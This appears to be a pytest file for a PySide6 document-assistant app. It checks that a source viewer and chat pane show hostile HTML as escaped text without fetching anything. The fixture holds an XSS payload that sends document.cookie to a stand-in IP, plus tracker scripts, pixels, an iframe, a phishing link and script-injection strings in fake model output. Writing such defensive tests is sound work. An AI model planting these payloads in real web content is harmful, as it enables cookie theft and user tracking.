"""Untrusted content: documents and model output are shown as text; nothing is run or fetched."""

from __future__ import annotations

import socket

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QDesktopServices, QTextDocument

from operator_assistant.core.assistant import Answer, Source
from operator_assistant.gui.chat import ChatPane
from operator_assistant.gui.viewer import SourceViewer
from tests.support.engines import make_engine

real_models = pytest.mark.integration  # the real bundled models: slow tier (`make test`)

HOSTILE = """<!DOCTYPE html>
<html><head><title>Dosing pump notes &lt;b&gt;v2&lt;/b&gt;</title>
<script src="http://198.51.100.7/tracker.js"></script>
<script>fetch("http://198.51.100.7/steal?c=" + document.cookie); alert("pwned-by-script");</script>
</head><body>
<h1>Dosing pump DP-301 &lt;img src="http://198.51.100.7/h.png"&gt;</h1>
<p>The hypochlorite dosing pump DP-301 stroke length is set to 65 percent during normal flow.
<img src="http://198.51.100.7/pixel.gif" alt=""></p>
<iframe src="http://198.51.100.7/frame.html">frame-fallback-text</iframe>
<p>See the <a href="http://198.51.100.7/phish">vendor service bulletin</a> for the diaphragm change.</p>
</body></html>
"""


@pytest.fixture
def network_attempts(monkeypatch):
    """Every outgoing connection attempt from Python code, refused and recorded."""
    attempts: list[object] = []

    def refuse(self, address, *args, **kwargs):
        attempts.append(address)
        raise OSError("network access attempted in a test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", lambda address, *a, **k: refuse(None, address))
    opened: list[object] = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url) or False)
    return attempts, opened


@real_models
def test_hostile_html_is_shown_as_text_and_fetches_nothing(qtbot, tmp_path, embedder, network_attempts):
    attempts, opened = network_attempts
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "dosing.html").write_text(HOSTILE, encoding="utf-8")
    engine = make_engine(tmp_path / "data", embedder)
    report = engine.ingest([docs])
    assert not report.failed and report.count("added") == 1
    hit = engine.search("DP-301 stroke length", k=1).hits[0]
    source = Source(1, hit.chunk.chunk_id, hit.document.title, hit.document.source, hit.chunk.section,
                    hit.chunk.pages, hit.chunk.start, hit.chunk.end, hit.chunk.text, hit.score)

    viewer = SourceViewer()
    qtbot.addWidget(viewer)
    viewer.resize(900, 600)
    viewer.show()
    with qtbot.waitSignal(viewer.passage_shown, timeout=30_000):
        viewer.show_passage(source)
    shown = viewer.text.toPlainText()
    assert "65 percent" in viewer.highlighted_text
    assert "vendor service bulletin" in shown
    for never in ("fetch(", "pwned-by-script", "tracker.js", "document.cookie", "frame-fallback-text", "pixel.gif",
                  "/phish"):
        assert never not in shown, never
    # Title and heading come from the document: shown as the characters they hold, not as markup.
    title = QTextDocument()
    title.setHtml(viewer.title.text())
    assert "Dosing pump notes <b>v2</b>" in title.toPlainText()
    assert '<img src="http://198.51.100.7/h.png">' in title.toPlainText()

    # Clicking the link text does nothing: the viewer is plain text and never navigates.
    cursor = viewer.text.document().find("vendor service bulletin")
    viewer.text.setTextCursor(cursor)
    point = viewer.text.cursorRect().center()
    qtbot.mouseClick(viewer.text.viewport(), Qt.MouseButton.LeftButton, pos=point)
    qtbot.mouseDClick(viewer.text.viewport(), Qt.MouseButton.LeftButton, pos=point)
    # mouse events are delivered at once: a link that would open has been asked to open by now
    assert viewer.current is source and viewer.text.toPlainText() == shown
    assert not opened and not attempts
    engine.close()


def _answer(text: str) -> Answer:
    cited = Source(1, "d:c", "Dosing <b>notes</b>", "/docs/dosing.html", ("Dosing <script>x()</script>",), (),
                   0, 10, "<iframe src=http://x></iframe> stroke 65 percent", 1.0)
    return Answer("what <img src=http://x/q.png>?", "q", text, False, [cited])


def test_model_output_with_html_is_shown_escaped(qtbot, network_attempts):
    attempts, opened = network_attempts
    chat = ChatPane()
    qtbot.addWidget(chat)
    chat.set_ready(True)
    hostile = 'Set it to 65 percent [1]. <img src=http://x/a.png> <script>alert("x")</script> <a href="http://x">go</a>'
    chat.question.setPlainText("what <img src=http://x/q.png>?")
    chat.ask_button.click()  # as the operator asks
    chat.append_text(hostile)  # while streaming
    chat.redraw()
    assert "<img src=http://x/a.png>" in chat.transcript.toPlainText()
    assert "<img" not in chat.transcript.toHtml().replace("&lt;img", "")
    chat.finish(_answer(hostile))  # the finished answer, with citation cards
    plain, markup = chat.transcript.toPlainText(), chat.transcript.toHtml()
    for literal in ("<img src=http://x/a.png>", '<script>alert("x")</script>', "<img src=http://x/q.png>",
                    "Dosing <b>notes</b>", "<iframe src=http://x></iframe>"):
        assert literal in plain, literal
    for tag in ("<img", "<script", "<iframe", 'href="http'):
        assert tag not in markup, tag
    assert 'href="source:0:1"' in markup  # the citation marker is still a working link
    with qtbot.wait_signal(chat.source_opened) as opened_source:
        chat.open_citation(1)
    assert opened_source.args[0].number == 1
    assert not attempts and not opened
